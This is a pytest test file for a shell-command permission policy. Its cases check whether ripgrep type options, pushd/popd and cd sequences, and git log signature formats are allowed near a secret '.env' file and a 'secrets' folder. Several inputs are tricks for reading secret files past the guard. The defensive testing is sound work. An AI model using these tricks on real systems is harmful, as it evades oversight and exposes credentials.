@pytest.mark.parametrize(
    ("options", "allowed"),
    [
        ("-tpy", True),
        ("-t rust", True),
        ("-T py", True),
        ("-tall", False),
        ("-t json", False),
        ("--type-add='e:*' -te", False),
    ],
)
def test_types_of_files_that_show_what_is_hidden(options: str, allowed: bool) -> None:
    """ripgrep reads a hidden file that a type names; of sources none is a secret."""
    world = World()
    world[facts.TreeKey(TREE)] = facts.TreeFact((facts.Danger("secret", ".env"),), files=2)
    decision = ask(build(shipped_text()), f"rg {options} x", world=world)
    assert (decision.verdict is Verdict.ALLOW) is allowed


@pytest.mark.parametrize(
    ("text", "allowed"),
    [
        ("pushd src; popd; cat a", True),
        ("pushd secrets; pushd ../src; popd; cat a", False),  # it may be in secrets again
        ("cd secrets; pushd ..; popd; cat a", False),
        ("popd; cat a", False),
    ],
)
def test_popd_leads_to_where_the_text_has_been(text: str, allowed: bool) -> None:
    world = World()
    for folder in ("src", "secrets"):
        world[facts.PathKey(f"{TREE}/{folder}")] = facts.PathFact(f"{TREE}/{folder}", "folder", TREE)
    assert (ask(build(shipped_text()), text, world=world).verdict is Verdict.ALLOW) is allowed


@pytest.mark.parametrize("sign", ["", "+", "-", " "])
def test_no_format_of_git_checks_a_signature(sign: str) -> None:
    """git looks at what stands behind the sign, and runs gpg for it."""
    policy = build(shipped_text())
    assert ask(policy, f"git log --format='%{sign}G?'").verdict is Verdict.ASK
    assert ask(policy, f"git log --format='%{sign}s'").verdict is Verdict.ALLOW
